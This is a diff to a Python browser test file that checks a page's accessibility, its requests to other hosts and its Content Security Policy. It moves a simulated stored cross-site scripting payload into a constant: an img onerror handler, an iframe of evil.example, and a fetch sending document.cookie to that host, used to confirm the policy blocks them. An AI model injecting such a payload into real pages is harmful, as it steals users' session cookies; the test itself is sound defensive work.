@@ -1,4 +1,4 @@
-"""The page with assistive technology, on phones, in the dark and in other languages; its requests and lock."""
+"""The page with assistive technology, on phones, in the dark, in other languages; its requests and lock."""
 
 from __future__ import annotations
 
@@ -44,6 +44,14 @@ VISIBLE_TEXTS = """() => {
         found.push(e.getAttribute('aria-label') || '', e.getAttribute('placeholder') || '');
     }
     return found;
+}"""
+# Markup with an event handler and a frame of another host, and a request to that host.
+STORED_ATTACK = """() => {
+    const box = document.createElement('div');
+    document.body.append(box);
+    const image = '<img src=/gone.png onerror="window.stolen = 1">';
+    box.innerHTML = image + '<iframe src="https://evil.example"></iframe>';
+    fetch('https://evil.example/?' + document.cookie).catch(() => {});
 }"""
 # axe.run with the rules as its argument.
 AXE_RUN = """(tags) => axe.run(
@@ -159,10 +167,7 @@ def test_the_page_requests_no_other_host_and_keeps_its_content_security_policy(s
     assert not foreign
     assert not errors
     # As in a stored attack: an event handler in markup does not run, and no data is sent elsewhere.
-    page.evaluate("""() => { const box = document.createElement('div'); document.body.append(box);
-        box.innerHTML = '<img src=/gone.png onerror="window.stolen = 1"><iframe
-        src="https://evil.example"></iframe>';
-        fetch('https://evil.example/?' + document.cookie).catch(() => {}); }""")
+    page.evaluate(STORED_ATTACK)
     page.wait_for_timeout(500)
     assert page.evaluate("window.stolen === undefined")
     assert any("Content Security Policy" in error for error in errors)
@@ -181,6 +186,5 @@ def test_a_second_server_of_the_same_folder_exits_and_names_the_first(studio: St
         str(studio.home / "outputs"),
     ]
     done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
-    assert done.returncode == 1 and re.search(
-        rf"by process \d+ at {re.escape(studio.address)}", done.stderr
-    ), done.stderr
+    assert done.returncode == 1
+    assert re.search(rf"by process \d+ at {re.escape(studio.address)}", done.stderr), done.stderr
